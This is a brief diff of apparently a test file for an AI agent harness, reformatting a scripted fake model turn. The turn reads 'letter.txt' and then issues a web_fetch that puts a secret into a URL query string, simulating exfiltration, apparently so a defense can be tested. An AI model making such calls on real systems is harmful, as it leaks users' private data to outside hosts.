@@ -295,7 +295,9 @@ def smuggles(secret: str) -> Any:
         def turn(asked: Any) -> ModelTurn:
             leak = f"{url}/tea?d={quote_plus(secret)}"
             calls = [("read_file", {"path": "letter.txt"}), ("web_fetch", {"url": leak})]
-            return ModelTurn(calls=[calls[asked.turn_count]]) if asked.turn_count < len(calls) else ModelTurn(text="Done.")
+            return (
+                ModelTurn(calls=[calls[asked.turn_count]]) if asked.turn_count < len(calls) else ModelTurn(text="Done.")
+            )
 
         return turn
 
